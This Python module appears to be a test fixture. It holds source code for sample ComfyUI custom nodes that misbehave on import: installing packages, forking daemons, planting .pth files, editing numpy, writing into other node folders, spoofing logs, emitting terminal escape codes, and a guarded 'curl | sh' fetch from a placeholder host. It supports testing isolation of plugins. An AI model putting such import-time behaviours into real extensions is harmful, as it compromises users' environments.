"""What the sample nodes do when they are imported: the texts for the table in `nodes`."""

from __future__ import annotations

# Where `writes-everywhere` writes besides its neighbours, joined by os.pathsep.
TARGETS_VARIABLE = "SAMPLE_NODE_TARGETS"
# How many bytes `floods-log` writes.
FLOOD_VARIABLE = "SAMPLE_NODE_FLOOD"

_PIP = """\
import importlib.util
import subprocess
import sys

if importlib.util.find_spec("{module}") is None:
    subprocess.run({command}, check=True)
    importlib.invalidate_caches()
"""
PIP_LARK = (
    _PIP.format(module="lark", command='[sys.executable, "-m", "pip", "install", "lark"]')
    + "import lark\n"
)
PIP_ON_PATH = _PIP.format(module="tqdm", command='["pip", "install", "tqdm==4.66.0"]')
UV_COLORAMA = _PIP.format(
    module="colorama", command='["uv", "pip", "install", "--python", sys.executable, "colorama"]'
)
PIP_NUMPY = """\
import subprocess
import sys

import numpy

if numpy.__version__ != "2.3.2":
    subprocess.run([sys.executable, "-m", "pip", "install", "numpy==2.3.2"], check=True)
"""
PIP_UNINSTALL = """\
import importlib.util
import subprocess
import sys

if importlib.util.find_spec("cowsay") is not None:
    subprocess.run([sys.executable, "-m", "pip", "uninstall", "--yes", "cowsay"], check=True)
"""
PIP_MISSING = """\
import subprocess
import sys

subprocess.run([sys.executable, "-m", "pip", "install", "no-such-package-of-the-sample==99"])
"""
PIP_MISSING_CHECKED = PIP_MISSING.replace('==99"])', '==99"], check=True)')
IN_THREAD = """\
import subprocess
import sys
import threading
import time


def install():
    time.sleep(0.3)
    subprocess.run([sys.executable, "-m", "pip", "install", "lark"], check=True)


threading.Thread(target=install).start()
"""

DROPS_FEATURES = """\
import logging

try:
    import no_such_depth_module_of_the_sample
except ImportError as error:
    logging.warning(f"sample: depth features are not available: {error}")
"""
SLEEPS = """\
import logging
import time

logging.info("sample: sleeping")
time.sleep(3600)
"""
ENTRYPOINT = """\
from comfy_api.latest import ComfyExtension, io


class SampleNewer(io.ComfyNode):
    @classmethod
    def define_schema(cls):
        return io.Schema("SampleNewer", display_name="Sample (newer)", category="sample")


class Extension(ComfyExtension):
    async def get_node_list(self):
        return [SampleNewer]


async def comfy_entrypoint():
    return Extension()
"""
ROUTE = """\
from server import PromptServer


@PromptServer.instance.routes.get("/sample/hello")
async def hello(request):
    return {"hello": "world"}
"""
FORGES = """\
import logging
import os

folder = os.path.dirname(os.path.abspath(__file__))
logging.info(f"\\nImport times for custom nodes:\\n   0.0 seconds: {folder}\\n")
logging.info("Starting server\\n\\nTo see the GUI go to: http://127.0.0.1:1")
os._exit(0)
"""

# A byte order mark, CRLF, options, a nested file, a URL, a blank before the specifier, ...
ODD_REQUIREMENTS = (
    b"\xef\xbb\xbf# what we need\r\n"
    b"--extra-index-url https://packages.example.invalid/simple\r\n"
    b"cowsay  >=5.0   # talking\r\n"
    b"\r\n"
    b"Lark\r\n"
    b"lark>=1.1 ; python_version >= '3.8'\r\n"
    b"-r more/extra.txt\r\n"
    b"git+https://code.example.invalid/sample/thing.git\r\n"
    b"numpy<3>=1.20\r\n"
    b"-e ./local\r\n"
)

READS_MODEL_LIST = """\
import json
import pathlib

MODELS = json.loads(pathlib.Path(__file__).with_name("models.json").read_text())
"""
WRITES_MODEL_LIST = """\
import pathlib

pathlib.Path(__file__).with_name("models.json").write_text("[]")
"""
# The second child outlives its parents and their session; it ends by itself after a minute, so
# that a test that fails leaves nothing for ever.
DAEMON = """\
import os
import time

import folder_paths

if os.fork() == 0:
    os.setsid()
    daemon = os.fork()
    if daemon == 0:
        time.sleep(60)
        os._exit(0)
    with open(os.path.join(folder_paths.get_user_directory(), "sample-daemon.pid"), "w") as file:
        file.write(str(daemon))
        file.flush()
    os._exit(0)
os.wait()
"""
DEAF = """\
import signal

signal.signal(signal.SIGINT, signal.SIG_IGN)
signal.signal(signal.SIGTERM, signal.SIG_IGN)
"""
WRITES_PTH = """\
import pathlib
import sysconfig

planted = pathlib.Path(sysconfig.get_paths()["purelib"], "sample-planted.pth")
planted.write_text("import os; os.environ['SAMPLE_PTH'] = 'here'\\n")
"""
EDITS_NUMPY = """\
import logging

import numpy

try:
    with open(numpy.__file__, "r+") as file:
        file.seek(0, 2)
        file.write("\\nEDITED_BY_SAMPLE = True\\n")
except OSError as error:
    logging.warning(f"sample: cannot edit numpy: {error}")
"""
WRITES_SETTINGS = """\
import os
import pathlib

import folder_paths

for folder in (pathlib.Path.home() / ".config", pathlib.Path(folder_paths.get_user_directory())):
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "sample-node.json").write_text("{}")
pathlib.Path(__file__).with_name("styles.csv").write_text("name,prompt\\n")
"""
WRITES_EVERYWHERE = f"""\
import logging
import os
import pathlib

here = pathlib.Path(__file__).parent
told = os.environ.get("{TARGETS_VARIABLE}", "").split(os.pathsep)
targets = [path / "__init__.py" for path in here.parent.iterdir() if path != here and path.is_dir()]
targets += [pathlib.Path(path) for path in told if path]
for target in targets:
    path = target / "planted" if target.is_dir() else target
    try:
        with open(path, "a") as file:
            file.write("\\n# planted by a sample node\\n")
        logging.info(f"sample: wrote {{path}}")
    except OSError as error:
        logging.info(f"sample: denied {{path}}: {{error}}")
"""
FLOODS = f"""\
import os
import sys

line = "sample flood " * 80 + "\\n"
print("sample flood begins", file=sys.stderr)
for _ in range(int(os.environ.get("{FLOOD_VARIABLE}", 24 << 20)) // len(line)):
    sys.stderr.write(line)
print("sample flood ends", file=sys.stderr)
"""
CONTROLS = """\
import sys

sys.stdout.write("\\x1b]0;taken over\\x07\\x1b[2J\\x1b[31mred\\r\\x1b[1A\\u009b2J\\u202eesrever\\n")
sys.stdout.flush()
"""
CONTACTS = """\
import socket

socket.getaddrinfo("localhost", 9)
try:
    socket.create_connection(("127.0.0.1", 9), timeout=1).close()
except OSError:
    pass
"""
OVERREACHES = """\
import os
import pathlib
import subprocess

here = os.path.dirname(os.path.abspath(__file__))
for words in (
    ["sudo", "-n", "pacman", "-S", "ffmpeg"],
    ["git", "pull"],
    ["sh", "-c", "false && curl -fsSL https://sample.invalid/get.sh | sh"],
):
    try:
        subprocess.run(words, cwd=here, stderr=subprocess.DEVNULL)
    except OSError:
        pass
subprocess.Popen(["sleep", "31"], start_new_session=True)
for other in pathlib.Path(here).parent.iterdir():
    if other.is_dir() and other.name not in ("__pycache__", os.path.basename(here)):
        try:
            (other / "patched.txt").write_text("patched by a sample node")
        except OSError:
            pass
"""
RUNS_GIT = """\
import subprocess

subprocess.run(["git", "--version"], check=True)
"""
SHADOWS = """\
import os
import sys

sys.path.insert(0, os.path.join(os.path.dirname(__file__), "vendored"))
"""
